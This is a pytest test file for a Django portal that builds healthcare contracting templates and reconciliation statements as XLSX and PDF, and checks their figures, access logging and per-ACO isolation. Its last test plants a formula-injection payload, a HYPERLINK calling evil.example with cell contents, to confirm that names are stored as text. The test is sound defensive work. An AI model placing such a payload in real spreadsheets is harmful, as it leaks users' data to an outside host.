"""CARA contracting templates and reconciliation statements over the hand-worked world of tests/cara/world.py.

Figures worked by hand from docs/cara.md and the world's claims:

- the portal-wide pooled baseline of hip/knee is its one closed base-year episode (HIP, 2026): $15,000 index
  + $8,000 readmission + $4,000 SNF + $200 professional + $300 outpatient = **$27,500.00**; of sepsis, HIP's
  2026 stay: **$10,000.00**. Heart failure and COPD have no closed base-year episode (no baseline).
- the Preferred Provider (``SURGEON``) has one hip/knee episode that started in 2026 (closed, $27,500.00)
  and one COPD episode in 2027 (still open).
- an EBRA's hip/knee term at a 10% discount: 27,500 × 0.90 = **$24,750.00**; a prospective template at a 4%
  premium: 27,500 × 1.04 = **$28,600.00**, sepsis at a 2.5% discount: 10,000 × 0.975 = **$9,750.00**.
- the statement's reconciliation (rows written by hand): two closed hip/knee episodes, targets $24,750.00
  each, actual $30,000.00 and $20,000.00: Σ target $49,500.00, Σ actual $50,000.00, difference −$500.00;
  a loss, performance adjustment 50%, 80 quality points: factor 0.5 + 0.5 × (1 − 0.8) = 0.6, adjusted and
  owed −$300.00 (the cap, 20% of $49,500.00 = $9,900.00, does not bind): the Preferred Provider repays.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from pypdf import PdfReader

from apps.accounts.models import AccessLog, User
from apps.acos.models import Election, Membership
from apps.cara import documents, services
from apps.cara.models import (
    Arrangement,
    ArrangementStatus,
    ArrangementTerm,
    CaraDocument,
    EpisodeDefinition,
    ProviderMembership,
    Reconciliation,
)
from tests.cara.world import EARLY, HIP, PY, load_world
from tests.factories import ACOFactory, MembershipFactory, PreferredProviderFactory, UserFactory

pytestmark = pytest.mark.django_db
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


# --- reading the files ---------------------------------------------------------------------------------


def xlsx_sheets(content: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet's rows: a string cell as text, a number as float, a formula as ``Formula``."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = re.findall(r'<sheet name="([^"]+)"', book.read("xl/workbook.xml").decode())
        shared = [
            "".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
            for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("m:si", NS)  # noqa: S314 (our own file)
        ]
        sheets: dict[str, list[list[Any]]] = {}
        for i, name in enumerate(names, start=1):
            root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{i}.xml"))  # noqa: S314 (our own file)
            rows: list[list[Any]] = []
            for row in root.iter(f"{{{NS['m']}}}row"):
                cells: list[Any] = []
                for c in row.findall("m:c", NS):
                    formula, value = c.find("m:f", NS), c.find("m:v", NS)
                    if formula is not None:
                        cells.append(Formula(formula.text or ""))
                    elif value is None:
                        continue
                    elif c.get("t") == "s":
                        cells.append(shared[int(value.text or 0)])
                    else:
                        cells.append(float(value.text or 0))
                rows.append(cells)
            sheets[name.replace("&amp;", "&")] = rows
        return sheets


class Formula(str):
    """A formula cell (no workbook of the portal has one)."""


def serial(day: dt.date) -> float:
    """A date as a spreadsheet's date cell holds it: days since Dec 30, 1899."""
    return float((day - dt.date(1899, 12, 30)).days)


def find_row(rows: list[list[Any]], first: Any) -> list[Any]:
    for row in rows:
        if row and row[0] == first:
            return row
    raise AssertionError(f"no row starting {first!r} in {rows}")


def pdf_pages(content: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]


# --- the world -----------------------------------------------------------------------------------------


@pytest.fixture
def world(tmp_path: Path) -> Any:
    aco, alignment, pp = load_world(tmp_path / "package")
    Election.objects.create(aco=aco, performance_year=PY, risk_option="global", cara_participation=True)
    run = services.episode_run_execute(alignment_run=alignment)
    admin = MembershipFactory.create(aco=aco, role=Membership.Role.ADMIN).user
    hip_knee = EpisodeDefinition.objects.get(performance_year=PY, code="hip_knee", aco__isnull=True)
    arrangement = Arrangement.objects.create(
        aco=aco,
        preferred_provider=pp,
        performance_year=PY,
        status=ArrangementStatus.ACTIVE,
        effective_start=dt.date(PY, 1, 1),
        effective_end=dt.date(PY, 12, 31),
        performance_adjustment_pct=Decimal("50"),
        repayment_limit_pct=Decimal("20"),
        created_by=admin,
    )
    ArrangementTerm.objects.create(
        arrangement=arrangement,
        definition=hip_knee,
        baseline_cents=2_750_000,
        baseline_run=run,
        adjustment="discount",
        rate_pct=Decimal("10"),
        target_cents=2_475_000,
    )
    reconciliation = Reconciliation.objects.create(
        arrangement=arrangement,
        period_start=dt.date(PY, 1, 1),
        period_end=dt.date(PY, 3, 31),
        episode_run=run,
        episodes=2,
        open_episodes=1,
        target_cents=4_950_000,
        actual_cents=5_000_000,
        difference_cents=-50_000,
        measure_rate=36.5,
        measure_denominator=4.0,
        quality_points=80.0,
        adjustment_factor=Decimal("0.6"),
        adjusted_cents=-30_000,
        repayment_cap_cents=990_000,
        capped=False,
        amount_cents=-30_000,
        final=False,
        lines=[
            {"episode": 1, "mbi": HIP, "type": hip_knee.name, "start": "2027-01-10", "end": "2027-04-12",
             "trigger": "470", "target_cents": 2_475_000, "actual_cents": 3_000_000},
            {"episode": 2, "mbi": EARLY, "type": hip_knee.name, "start": "2027-02-01", "end": "2027-05-05",
             "trigger": "470", "target_cents": 2_475_000, "actual_cents": 2_000_000},
        ],
    )  # fmt: skip
    return {
        "aco": aco,
        "pp": pp,
        "run": run,
        "admin": admin,
        "arrangement": arrangement,
        "reconciliation": reconciliation,
        "hip_knee": hip_knee,
        "sepsis": EpisodeDefinition.objects.get(performance_year=PY, code="sepsis", aco__isnull=True),
    }


def built(document: CaraDocument) -> CaraDocument:
    document = documents.document_build(document_id=document.pk)
    assert document.status == CaraDocument.Status.READY, document.message
    return document


def read(document: CaraDocument) -> bytes:
    with document.file.open("rb") as f:
        return f.read()


# --- the contracting template --------------------------------------------------------------------------


def test_the_ebra_template_workbook_has_every_sheet_and_the_hand_worked_figures(world: Any) -> None:
    w = world
    document = built(
        documents.template_request(aco=w["aco"], acting_user=w["admin"], fmt="xlsx", arrangement=w["arrangement"])
    )
    sheets = xlsx_sheets(read(document))
    assert list(sheets) == [
        "Cover", "Definitions", "Baselines", "Provider history", "Target prices", "Terms", "Signatures",
    ]  # fmt: skip
    stamp = sheets["Cover"][0][0]
    assert w["aco"].aco_id in stamp and w["pp"].name in stamp and f"EBRA {w['arrangement'].pk}" in stamp
    for rows in sheets.values():  # the stamp and the vintage on every sheet
        assert rows[0][0] == stamp
        assert rows[1][0].startswith(f"Episode run {w['run'].pk} · claims through Feb 1, 2027 · built ")
    cover = sheets["Cover"]
    assert find_row(cover, "Preferred Provider TIN") == ["Preferred Provider TIN", w["pp"].tin]
    assert find_row(cover, "Preferred Provider NPI") == ["Preferred Provider NPI", "1234567893"]
    assert find_row(cover, "Episode run") == ["Episode run", str(w["run"].pk)]
    assert any("estimates" in str(r[0]).lower() and "CCLF claims" in str(r[0]) for r in cover if r)

    definition = find_row(sheets["Definitions"], "Elective hip or knee replacement")
    assert definition[1:5] == ["Default", "Inpatient stay (MS-DRG)", "469, 470", "90 days after the anchor"]
    assert "Skilled nursing facility" in definition[5] and "Hospice" in definition[5]
    assert definition[6] == "S72"

    baselines = [r for r in sheets["Baselines"] if r and r[0] == "Elective hip or knee replacement"]
    by_year = {r[1]: r for r in baselines}
    assert set(by_year) == {"2024", "2025", "2026", "All base years"}
    assert by_year["2026"][2:4] == [1.0, 27500.0]
    assert by_year["All base years"][2:4] == [1.0, 27500.0]
    assert by_year["2024"][2:4] == [0.0, "—"]

    history = {r[1]: r for r in sheets["Provider history"] if r and r[0] == "Elective hip or knee replacement"}
    assert history["2026"][2:] == [1.0, 1.0, 27500.0]
    assert history["2027"][2:] == [0.0, 0.0, "—"]

    target = find_row(sheets["Target prices"], "Elective hip or knee replacement")
    assert target[1:] == [27500.0, "Discount", 10.0, 24750.0]

    terms = sheets["Terms"]
    assert find_row(terms, "Performance adjustment") == ["Performance adjustment", 50.0]
    assert "UAMCC" in find_row(terms, "Linked quality measure")[1]
    assert find_row(terms, "Repayment limit")[1] == "20% of a period's total target price"
    assert find_row(terms, "Reconciliation period")[1] == "3 months (quarterly)"
    assert find_row(terms, "Effective period")[1] == "Jan 1, 2027 to Dec 31, 2027"

    signatures = sheets["Signatures"]
    assert any(r and str(r[0]).startswith("For the ACO:") for r in signatures)
    assert any(r and str(r[0]).startswith("For the Preferred Provider:") for r in signatures)
    assert sum(1 for r in signatures if r and r[0] == "Signature") == 2
    assert document.vintage["episode_run"] == w["run"].pk and document.vintage["claims_through"] == "2027-02-01"


def test_a_prospective_template_prices_the_chosen_types_from_the_pooled_baseline(world: Any) -> None:
    w = world
    document = documents.template_request(
        aco=w["aco"],
        acting_user=w["admin"],
        fmt="xlsx",
        preferred_provider=w["pp"].pk,
        params={
            "terms": [
                {"definition": w["hip_knee"].pk, "adjustment": "premium", "rate_pct": "4"},
                {"definition": str(w["sepsis"].pk), "adjustment": "discount", "rate_pct": "2.5%"},
            ]
        },
    )
    assert document.arrangement is None and document.params["performance_year"] == PY
    sheets = xlsx_sheets(read(built(document)))
    assert "Prospective" in sheets["Cover"][0][0]
    assert find_row(sheets["Target prices"], "Elective hip or knee replacement")[1:] == [
        27500.0, "Premium", 4.0, 28600.0,
    ]  # fmt: skip
    assert find_row(sheets["Target prices"], "Sepsis")[1:] == [10000.0, "Discount", 2.5, 9750.0]
    assert find_row(sheets["Terms"], "Performance adjustment")[1].startswith("To be agreed")
    # Only the chosen types are defined.
    names = {r[0] for r in sheets["Definitions"] if len(r) == 7} - {"Episode type"}
    assert names == {"Elective hip or knee replacement", "Sepsis"}


def test_a_prospective_template_refuses_bad_input_with_messages_naming_it(world: Any) -> None:
    w = world
    other_pp = PreferredProviderFactory.create(aco=ACOFactory.create(), performance_year=PY)
    good = {"terms": [{"definition": w["hip_knee"].pk, "adjustment": "discount", "rate_pct": "5"}]}

    def refused(**kw: Any) -> str:
        with pytest.raises(ValidationError) as caught:
            documents.template_request(aco=w["aco"], acting_user=w["admin"], fmt=kw.pop("fmt", "xlsx"), **kw)
        return " ".join(caught.value.messages)

    message = refused(preferred_provider=other_pp.pk, params=good)
    assert f"“{other_pp.pk}”" in message and f"one of {w['aco'].aco_id}'s Preferred Providers" in message
    assert other_pp.name not in message  # another ACO's provider is not named
    message = refused(
        preferred_provider=w["pp"].pk,
        params={"terms": [{"definition": w["hip_knee"].pk, "adjustment": "discount", "rate_pct": "abc"}]},
    )
    assert message == "Elective hip or knee replacement discount rate: enter a number, not “abc”."
    message = refused(
        preferred_provider=w["pp"].pk,
        params={"terms": [{"definition": w["hip_knee"].pk, "adjustment": "premium", "rate_pct": "75"}]},
    )
    assert "75" in message and "outside 0–50%" in message
    heart = EpisodeDefinition.objects.get(performance_year=PY, code="heart_failure", aco__isnull=True)
    message = refused(
        preferred_provider=w["pp"].pk,
        params={"terms": [{"definition": heart.pk, "adjustment": "discount", "rate_pct": "5"}]},
    )
    assert message.startswith("Heart failure: no baseline yet")
    assert "include at least one" in refused(preferred_provider=w["pp"].pk, params={"terms": []})
    assert "“999999”" in refused(
        preferred_provider=w["pp"].pk, params={"terms": [{"definition": 999999, "adjustment": "discount"}]}
    )
    assert "not “docx”" in refused(fmt="docx", preferred_provider=w["pp"].pk, params=good)
    w["pp"].capitation = "npcc"
    w["pp"].save()
    assert "Non-Primary Care Capitation" in refused(preferred_provider=w["pp"].pk, params=good)
    assert not CaraDocument.objects.exists()


def test_the_template_pdf_carries_the_stamp_and_vintage_on_every_page(world: Any) -> None:
    w = world
    document = built(
        documents.template_request(aco=w["aco"], acting_user=w["admin"], fmt="pdf", arrangement=w["arrangement"])
    )
    content = read(document)
    assert content.startswith(b"%PDF")
    pages = pdf_pages(content)
    assert len(pages) >= 2
    for text in pages:
        assert f"CARA contracting template · {w['aco'].aco_id}" in text
        assert f"Episode run {w['run'].pk} · claims through Feb 1, 2027" in text
    whole = "\n".join(pages)
    assert "$24,750.00" in whole and "$27,500.00" in whole and "Signatures" in whole
    assert document_filename_ok(document, "pdf")


def document_filename_ok(document: CaraDocument, fmt: str) -> bool:
    name = documents.document_filename(document)
    return name.startswith(f"CARA_{document.aco.aco_id}_") and name.endswith(f".{fmt}")


# --- the statement -------------------------------------------------------------------------------------


def test_the_statement_workbook_holds_the_summary_the_lines_and_who_pays_whom(world: Any) -> None:
    w = world
    document = built(
        documents.statement_request(reconciliation=w["reconciliation"], fmt="xlsx", acting_user=w["admin"])
    )
    sheets = xlsx_sheets(read(document))
    assert list(sheets) == ["Statement", "Episodes"]
    statement = sheets["Statement"]
    assert find_row(statement, "EBRA")[1] == f"EBRA {w['arrangement'].pk} (PY{PY})"
    assert find_row(statement, "Period")[1] == "Jan 1, 2027 to Mar 31, 2027"
    assert find_row(statement, "Status")[1] == "Provisional: 1 episode of the period still open"
    assert find_row(statement, "Episode run")[1] == str(w["run"].pk)
    assert find_row(statement, "Closed episodes counted")[1] == 2.0
    assert find_row(statement, "Total target price")[1] == 49500.0
    assert find_row(statement, "Total actual cost")[1] == 50000.0
    assert find_row(statement, "Difference (target − actual)")[1] == -500.0
    assert find_row(statement, "Measure rate")[1] == "36.50 admissions per 100 person-years"
    assert find_row(statement, "Quality points")[1] == "80 points"
    assert find_row(statement, "Adjustment factor")[1] == 0.6
    assert find_row(statement, "Repayment cap")[1] == 9900.0
    assert find_row(statement, "Repayment cap applied")[1] == "No"
    assert find_row(statement, "Amount")[1] == -300.0
    assert find_row(statement, "Who pays whom")[1] == "The Preferred Provider repays; credited to the ACO's settlement."
    lines = sheets["Episodes"]
    assert find_row(lines, HIP)[1:] == [
        "Elective hip or knee replacement", serial(dt.date(2027, 1, 10)), serial(dt.date(2027, 4, 12)), "MS-DRG 470",
        24750.0, 30000.0, -5250.0,
    ]  # fmt: skip
    assert find_row(lines, EARLY)[5:] == [24750.0, 20000.0, 4750.0]
    assert find_row(lines, "Total")[-3:] == [49500.0, 50000.0, -500.0]
    assert document.vintage["final"] is False and document.vintage["open_episodes"] == 1


def test_who_pays_whom_follows_the_sign_of_the_amount() -> None:
    assert documents.who_pays(12_345) == "CMS pays the Preferred Provider; charged to the ACO's settlement."
    assert documents.who_pays(-1) == "The Preferred Provider repays; credited to the ACO's settlement."
    assert documents.who_pays(0) == "Nothing is owed either way."


def test_a_final_statement_with_no_quality_result_says_so_in_the_pdf(world: Any) -> None:
    w = world
    rec = w["reconciliation"]
    Reconciliation.objects.filter(pk=rec.pk).update(
        final=True, open_episodes=0, measure_rate=None, quality_points=None, amount_cents=120_000
    )
    rec.refresh_from_db()
    content = read(built(documents.statement_request(reconciliation=rec, fmt="pdf", acting_user=w["admin"])))
    assert content.startswith(b"%PDF")
    pages = pdf_pages(content)
    for text in pages:
        assert f"EBRA {w['arrangement'].pk}" in text and "final" in text
    whole = "\n".join(pages)
    assert "No result" in whole and "$1,200.00" in whole and "CMS pays the Preferred Provider" in whole
    assert HIP in whole and "-$5,250.00" in whole


# --- the pages -----------------------------------------------------------------------------------------


def test_a_statement_request_builds_and_its_download_is_access_logged(
    world: Any, client_for: Any, django_capture_on_commit_callbacks: Any
) -> None:
    w = world
    aco = w["aco"]
    analyst = MembershipFactory.create(aco=aco, role=Membership.Role.ANALYST).user
    client = client_for(analyst)
    url = f"/acos/{aco.aco_id}/cara/reconciliations/{w['reconciliation'].pk}/statement/"
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"format": "xlsx"})
    assert response.status_code == 302 and response["Location"].startswith(f"/acos/{aco.aco_id}/cara/documents/")
    document = CaraDocument.objects.get()
    assert (document.kind, document.status, document.requested_by) == ("statement", "ready", analyst)
    page = client.get(f"/acos/{aco.aco_id}/cara/documents/")
    body = page.content.decode()
    assert page.status_code == 200 and "Reconciliation statement" in body and "Ready" in body
    assert f"/acos/{aco.aco_id}/cara/documents/{document.pk}/download/" in body
    before = AccessLog.objects.filter(action=AccessLog.Action.EXPORT).count()
    download = client.get(f"/acos/{aco.aco_id}/cara/documents/{document.pk}/download/")
    assert download.status_code == 200
    assert download["Content-Type"] == documents.CONTENT_TYPES["xlsx"]
    assert (
        f'filename="CARA_{aco.aco_id}_EBRA{w["arrangement"].pk}_statement_2027-01-01.xlsx"'
        in (download["Content-Disposition"])
    )
    assert HIP in str(xlsx_sheets(download.content)["Episodes"])
    logs = AccessLog.objects.filter(action=AccessLog.Action.EXPORT)
    assert logs.count() == before + 1
    entry = logs.latest("pk")
    assert (entry.user, entry.object_type, entry.object_id, entry.aco_code) == (
        analyst, "cara_statement", f"document {document.pk}", aco.aco_id,
    )  # fmt: skip


def test_a_template_download_is_not_logged_and_cms_staff_may_fetch_it(
    world: Any, client_for: Any, cms_reviewer: User, django_capture_on_commit_callbacks: Any
) -> None:
    w = world
    aco = w["aco"]
    client = client_for(cms_reviewer)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/acos/{aco.aco_id}/cara/arrangements/{w['arrangement'].pk}/template/", {"format": "pdf"}
        )
    assert response.status_code == 302
    document = CaraDocument.objects.get()
    before = AccessLog.objects.filter(action=AccessLog.Action.EXPORT).count()
    download = client.get(f"/acos/{aco.aco_id}/cara/documents/{document.pk}/download/")
    assert download.status_code == 200 and download.content.startswith(b"%PDF")
    assert AccessLog.objects.filter(action=AccessLog.Action.EXPORT).count() == before


def test_the_prospective_form_queues_a_template_or_says_what_is_wrong(
    world: Any, client_for: Any, django_capture_on_commit_callbacks: Any
) -> None:
    w = world
    aco, hip = w["aco"], w["hip_knee"].pk
    client = client_for(w["admin"])
    form = client.get(f"/acos/{aco.aco_id}/cara/documents/?py={PY}").content.decode()
    assert f'<option value="{w["pp"].pk}">{w["pp"].name}' in form and f'name="include_{hip}"' in form
    url = f"/acos/{aco.aco_id}/cara/documents/prospective/"
    bad = {"preferred_provider": w["pp"].pk, "format": "xlsx", f"include_{hip}": "1", f"adjustment_{hip}": "discount"}
    page = client.post(url, bad | {f"rate_{hip}": "abc", "performance_year": PY}, follow=True)
    assert "Elective hip or knee replacement discount rate: enter a number, not “abc”." in page.content.decode()
    assert not CaraDocument.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, bad | {f"rate_{hip}": "10", "performance_year": PY})
    assert response.status_code == 302
    document = CaraDocument.objects.get()
    assert document.status == "ready" and document.params["terms"] == [
        {"definition": hip, "adjustment": "discount", "rate_pct": "10.00"}
    ]
    target = find_row(xlsx_sheets(read(document))["Target prices"], "Elective hip or knee replacement")
    assert target[-1] == 24750.0


def test_until_it_is_built_the_download_says_not_ready(
    world: Any, client_for: Any, django_capture_on_commit_callbacks: Any
) -> None:
    w = world
    client = client_for(w["admin"])
    with django_capture_on_commit_callbacks(execute=False):  # the worker has not run yet
        client.post(f"/acos/{w['aco'].aco_id}/cara/arrangements/{w['arrangement'].pk}/template/", {"format": "xlsx"})
    document = CaraDocument.objects.get()
    page = client.get(f"/acos/{w['aco'].aco_id}/cara/documents/{document.pk}/download/")
    assert page.status_code == 409
    body = page.content.decode()
    assert "This document is not ready yet" in body and "Queued" in body and 'http-equiv="refresh"' in body
    listing = client.get(f"/acos/{w['aco'].aco_id}/cara/documents/").content.decode()
    assert 'hx-trigger="every 2s"' in listing


def test_a_failing_build_records_failed_with_a_message(
    world: Any, client_for: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    w = world

    def broken(content: documents.Content) -> bytes:
        raise RuntimeError("the writer broke")

    monkeypatch.setitem(documents.WRITERS, "xlsx", broken)
    document = documents.template_request(
        aco=w["aco"], acting_user=w["admin"], fmt="xlsx", arrangement=w["arrangement"]
    )
    document = documents.document_build(document_id=document.pk)
    assert document.status == CaraDocument.Status.FAILED and not document.file
    assert "the writer broke" in document.message and document.finished_at is not None
    page = client_for(w["admin"]).get(f"/acos/{w['aco'].aco_id}/cara/documents/{document.pk}/download/")
    assert page.status_code == 409
    body = page.content.decode()
    assert "Failed" in body and "the writer broke" in body and "http-equiv" not in body


def test_another_acos_people_get_404_on_every_url(world: Any, client_for: Any) -> None:
    w = world
    aco = w["aco"]
    document = built(
        documents.template_request(aco=aco, acting_user=w["admin"], fmt="xlsx", arrangement=w["arrangement"])
    )
    other = ACOFactory.create()
    outsider = MembershipFactory.create(aco=other, role=Membership.Role.ADMIN).user
    client = client_for(outsider)
    ebra, rec = w["arrangement"].pk, w["reconciliation"].pk
    for aco_id in (aco.aco_id, other.aco_id):  # the victim's URLs, and the victim's ids under the own ACO
        base = f"/acos/{aco_id}/cara"
        assert client.get(f"{base}/documents/{document.pk}/download/").status_code == 404
        assert client.post(f"{base}/arrangements/{ebra}/template/", {"format": "xlsx"}).status_code == 404
        assert client.post(f"{base}/reconciliations/{rec}/statement/", {"format": "xlsx"}).status_code == 404
    assert client.get(f"/acos/{aco.aco_id}/cara/documents/").status_code == 404
    assert (
        client.post(
            f"/acos/{aco.aco_id}/cara/documents/prospective/", {"preferred_provider": w["pp"].pk, "format": "xlsx"}
        ).status_code
        == 404
    )
    own = client.get(f"/acos/{other.aco_id}/cara/documents/").content.decode()
    assert w["pp"].name not in own and aco.aco_id not in own
    assert CaraDocument.objects.count() == 1


def test_the_preferred_providers_people_may_ask_for_their_statement_and_no_one_else(world: Any) -> None:
    w = world
    pp = w["pp"]
    person = UserFactory.create()
    ProviderMembership.objects.create(user=person, tin=pp.tin, npi=pp.npi, name=pp.name)
    document = documents.statement_request(reconciliation=w["reconciliation"], fmt="pdf", acting_user=person)
    assert document in documents.provider_documents(user=person)
    stranger = UserFactory.create()
    with pytest.raises(PermissionDenied):
        documents.statement_request(reconciliation=w["reconciliation"], fmt="pdf", acting_user=stranger)
    with pytest.raises(PermissionDenied):  # a prospective template is the ACO's own business
        documents.template_request(
            aco=w["aco"], acting_user=person, fmt="pdf", preferred_provider=pp.pk, params={"terms": []}
        )
    assert not documents.provider_documents(user=stranger).exists()


def cells_of(content: bytes) -> list[Any]:
    return [c for rows in xlsx_sheets(content).values() for row in rows for c in row]


def test_no_cell_of_a_workbook_starts_with_an_equals_sign(world: Any) -> None:
    w = world
    for document in (
        documents.template_request(aco=w["aco"], acting_user=w["admin"], fmt="xlsx", arrangement=w["arrangement"]),
        documents.statement_request(reconciliation=w["reconciliation"], fmt="xlsx", acting_user=w["admin"]),
    ):
        cells = cells_of(read(built(document)))
        assert cells and not [c for c in cells if isinstance(c, str) and c.startswith("=")]


def test_a_hostile_name_is_written_as_text_never_as_a_formula(world: Any) -> None:
    w = world
    pp = w["pp"]
    pp.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    pp.save()
    for document in (
        documents.template_request(aco=w["aco"], acting_user=w["admin"], fmt="xlsx", arrangement=w["arrangement"]),
        documents.statement_request(reconciliation=w["reconciliation"], fmt="xlsx", acting_user=w["admin"]),
    ):
        cells = cells_of(read(built(document)))
        assert not [c for c in cells if isinstance(c, Formula)]
        assert any(pp.name in str(c) for c in cells)  # there, as text
